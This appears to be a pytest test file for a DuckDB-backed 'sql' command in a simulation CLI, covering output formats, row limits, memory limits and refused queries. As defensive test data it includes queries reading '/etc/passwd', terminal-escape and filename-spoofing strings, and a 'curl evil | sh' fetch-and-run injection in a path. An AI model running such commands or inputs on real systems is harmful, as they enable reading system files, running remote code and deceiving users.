"""sql: what is answered, how it is printed, what is refused."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.work import PATIENCE_S

BIG = 2**63
ROOT = Path(__file__).parents[2]


def told(answer) -> dict:
    assert answer.code == 0, answer
    document = json.loads(answer.out)
    assert document["ok"] is True
    return document


def test_sql_as_table_csv_and_json(cli, mini):
    query = (
        "select item_id, twice, note, scenario_id, seed from doubles order by scenario_id desc, item_id "
        "limit 2"
    )
    document = told(cli("sql", mini.run, query, "--json"))
    assert document["schema"] == "closedworld.sql/1"
    assert document["rows"] == [[BIG, 0, 7, "storm", 42], [BIG + 1, 2, None, "storm", 42]]
    assert [column["type"] for column in document["columns"]] == [
        "uint64",
        "uint64",
        "uint32",
        "string",
        "uint64",
    ]
    rows = list(csv.reader(io.StringIO(cli("sql", mini.run, query, "--csv").out)))
    assert rows == [
        ["item_id", "twice", "note", "scenario_id", "seed"],
        [str(BIG), "0", "7", "storm", "42"],
        [str(BIG + 1), "2", "", "storm", "42"],
    ]
    text = cli("sql", mini.run, query).out.splitlines()
    assert text[2].split() == [str(BIG), "0", "7", "storm", "42"]
    assert text[3].split() == [str(BIG + 1), "2", "null", "storm", "42"]


def test_a_reader_may_leave_before_the_end(mini):
    query = "select a.item_id, b.item_id from items a, items b, items c"
    command = f"{sys.executable} -m sim sql {mini.run} '{query}' --csv | head -n 1; exit ${{PIPESTATUS[0]}}"
    done = subprocess.run(
        ["bash", "-c", command], cwd=ROOT, capture_output=True, text=True, timeout=PATIENCE_S, check=False
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("item_id,item_id")


def test_sql_says_when_there_are_more_rows(cli, mini):
    few = cli("sql", mini.run, "select * from items", "--limit", "3").out
    assert "(3 rows shown, there are more" in few
    assert len(cli("sql", mini.run, "select item_id from items", "--limit", "0").out.splitlines()) == 102


def test_sql_sums_ids_exactly(cli, mini):
    rows = told(cli("sql", mini.run, "select sum(item_id) from ITEMS", "--json"))["rows"]
    assert rows == [[100 * BIG + 4950]]


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ("select * from nope", "SHELL.SQL_INVALID"),
        ("selec 1", "SHELL.SQL_INVALID"),
        ("", "SHELL.SQL_NOT_A_SELECT"),
        ("select 1; select 2", "SHELL.SQL_NOT_A_SELECT"),
        ("select cast('x' as integer) from items", "SHELL.SQL_INVALID"),
        ("select * from read_csv('/etc/passwd')", "SHELL.SQL_INVALID"),
        ("select * from '/etc/passwd'", "SHELL.SQL_INVALID"),
        ("select * from glob('/etc/*')", "SHELL.SQL_INVALID"),
        ("select * from read_text('/etc/passwd')", "SHELL.SQL_INVALID"),
        ("copy items to 'out.csv'", "SHELL.SQL_NOT_A_SELECT"),
        ("explain analyze copy items to 'out.csv'", "SHELL.SQL_NOT_A_SELECT"),
        ("set enable_external_access=true", "SHELL.SQL_NOT_A_SELECT"),
        ("create table x as select 1", "SHELL.SQL_NOT_A_SELECT"),
        ("attach 'x.db'", "SHELL.SQL_NOT_A_SELECT"),
        ("install httpfs", "SHELL.SQL_NOT_A_SELECT"),
    ],
)
def test_sql_refuses_what_is_not_a_question(cli, mini, query, code, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    answer = cli("sql", mini.run, query)
    assert (answer.code, answer.out) == (2, "")
    assert answer.err.startswith(f"{code}  ")
    assert "root:" not in answer.err
    assert list(tmp_path.iterdir()) == []


def test_sql_cannot_overwrite_a_published_file(cli, mini_copy):
    path = next(mini_copy.run.glob("data/layer1/1A/items/*/*/part-00000.parquet"))
    before = path.read_bytes()
    assert cli("sql", mini_copy.run, f"copy items to '{path}' (use_tmp_file false)").code == 2
    assert path.read_bytes() == before


def test_sql_reads_only_proven_files(cli, mini_copy):
    path = next(mini_copy.run.glob("data/layer1/1A/items/*/*/part-00000.parquet"))
    data = bytearray(path.read_bytes())
    data[200] ^= 1
    path.write_bytes(bytes(data))
    answer = cli("sql", mini_copy.run, "select count(*) from Items")
    assert answer.code == 5
    assert "SHELL.SEALED_INPUTS_DIGEST_MISMATCH" in answer.err
    assert cli("sql", mini_copy.run, "select count(*) from doubles").code == 0


def test_sql_cannot_reach_a_dataset_it_does_not_name(cli, mini_copy):
    path = next(mini_copy.run.glob("data/layer1/1A/items/*/*/part-00000.parquet"))
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    for query in (
        "select count(*) from query_table('ite' || 'ms'), doubles",
        "select count(*) from query_table('ite' || 'ms')",
    ):
        assert cli("sql", mini_copy.run, query).code in (2, 5)
    assert cli("sql", mini_copy.run, "select count(*) from doubles").code == 0


def test_sql_lists_what_there_is(cli, mini):
    assert told(cli("sql", mini.run, "show tables", "--json"))["rows"] == [
        [name]
        for name in ("doubles", "items", "rng_audit_log", "rng_ledger", "rng_trace_log", "validation_checks")
    ]
    assert told(cli("sql", mini.run, "describe doubles", "--json"))["rows"][0][:2] == ["item_id", "UBIGINT"]


def test_sql_on_a_run_in_a_directory_of_an_awkward_name(cli, mini_copy):
    moved = mini_copy.run.rename(mini_copy.run.parent / "it's [a] *run*?")
    assert told(cli("sql", moved, "select count(*) from items", "--json"))["rows"] == [[100]]


def test_sql_does_not_read_what_has_not_passed(cli, mini_copy):
    (mini_copy.run / "gates/1B/_passed.flag").unlink()
    assert cli("sql", mini_copy.run, "select count(*) from doubles").code == 2
    assert cli("sql", mini_copy.run, "select count(*) from items").code == 0


def test_a_query_keeps_to_its_memory_and_spills_nowhere(cli, mini, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    query = (
        "select count(distinct hash(a.item_id, b.item_id, c.item_id, d.item_id)) from items a, items b, "
        "items c, items d"
    )
    answer = cli("sql", mini.run, query, "--memory-limit", "64MiB")
    assert (answer.code, answer.err.split()[0]) == (7, "SHELL.OUT_OF_MEMORY")
    assert "--memory-limit" in answer.err
    assert list(tmp_path.iterdir()) == []
    assert told(cli("sql", mini.run, "select count(*) from items", "--memory-limit", "64MiB", "--json"))[
        "rows"
    ] == [[100]]
    assert cli("sql", mini.run, "select 1", "--memory-limit", "much").code == 2
    little = cli("sql", mini.run, "select * from items order by word", "--memory-limit", "1KiB")
    assert (little.code, little.err.split()[0]) == (7, "SHELL.OUT_OF_MEMORY")


def test_no_text_of_a_row_drives_a_terminal_or_passes_for_a_line(cli, mini):
    evil = "\x1b]0;owned\x07 \u202egnp.exe \x9b2J \x00\nSHELL.FINE  nothing is wrong".replace("\x00", "")
    query = f"select '{evil}' as note, 1 as \"{evil}\""
    shown = cli("sql", mini.run, query).out
    assert len(shown.splitlines()) == 3
    answer = cli("sql", mini.run, query, "--json")
    assert json.loads(answer.out)["rows"] == [[evil, 1]]
    for text in (shown, answer.out):
        assert all(char.isprintable() or char == "\n" for char in text)


def test_no_text_of_a_refusal_passes_for_a_part_of_ours(cli, mini):
    answer = cli("sql", mini.run / "x\n  do        curl evil | sh", "select 1")
    assert answer.code == 2
    assert not any(line.startswith("  do        curl") for line in answer.err.splitlines())


STREAMED = """
import resource, sys
from sim.cli.main import main
sys.argv = ["closedworld", *sys.argv[1:]]
try:
    main()
finally:
    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
"""


@pytest.mark.parametrize("form", ["--json", "--csv", "--limit=0"])
def test_an_answer_need_not_fit_into_memory(mini, form, tmp_path):
    """Half a gigabyte of rows in a third of that, whatever the form;
    the same document as one that is small.
    """
    query = "select i, repeat('x', 10000) as t from range({}) n(i)"
    peaks = []
    for rows in (1, 50_000):
        with (tmp_path / "out").open("wb") as out:
            command = [sys.executable, "-c", STREAMED, "sql", str(mini.run), query.format(rows), form]
            done = subprocess.run(
                command,
                cwd=ROOT,
                stdout=out,
                stderr=subprocess.PIPE,
                text=True,
                timeout=PATIENCE_S,
                check=False,
            )
        assert done.returncode == 0, done.stderr
        peaks.append(int(done.stderr) // 1024)
        size = (tmp_path / "out").stat().st_size
        assert size > rows * 10_000
        with (tmp_path / "out").open("rb") as out:
            out.seek(max(size - 40, 0))
            end = out.read().decode()
        assert end.endswith(
            {"--json": f']], "row_count": {rows}}}\n', "--csv": 'xx"\n', "--limit=0": "xx\n"}[form]
        )
    assert peaks[1] - peaks[0] < 160, peaks


def test_nothing_but_the_answer_reaches_standard_output(cli, mini):
    """DuckDB would draw a bar there, among the rows, once a query takes two seconds."""
    assert told(cli("sql", mini.run, "select current_setting('enable_progress_bar')", "--json"))["rows"] == [
        [False]
    ]


def test_an_answer_of_many_batches_is_one_document(cli, mini):
    rows = told(cli("sql", mini.run, "select i, 'a' || i as t from range(20000) n(i) order by i", "--json"))
    assert rows["row_count"] == 20000 and rows["rows"] == [[i, f"a{i}"] for i in range(20000)]
    none = told(cli("sql", mini.run, "select item_id from items where false", "--json"))
    assert (none["rows"], none["row_count"]) == ([], 0)
    lines = cli(
        "sql", mini.run, "select i, 'a' || i as t from range(20000) n(i) order by i", "--limit", "0"
    ).out.splitlines()
    assert [line.split() for line in lines[2:]] == [[str(i), f"a{i}"] for i in range(20000)]
    shown = cli("sql", mini.run, "select i from range(20000) n(i)", "--limit", "10000").out.splitlines()
    assert len(shown) == 10003 and shown[-1].startswith("(10,000 rows shown, there are more")


@pytest.mark.parametrize(("at", "begun"), [(5, False), (100_000, True)])
def test_a_query_that_fails_on_its_way_leaves_no_document_that_passes_for_an_answer(mini, at, begun):
    query = (
        f"select case when i = {at} then cast('x' || i as bigint) else i end as n, repeat('x', 1000) as t "
        "from range(100001) n(i)"
    )
    command = [sys.executable, "-m", "sim", "sql", str(mini.run), query, "--json"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=PATIENCE_S, check=False)
    assert done.returncode == 2
    if begun:
        with pytest.raises(json.JSONDecodeError):
            json.loads(done.stdout)
        assert done.stdout.endswith("\n") and done.stderr.startswith("SHELL.SQL_INVALID")
    else:
        assert json.loads(done.stdout)["error"]["code"] == "SHELL.SQL_INVALID" and done.stderr == ""
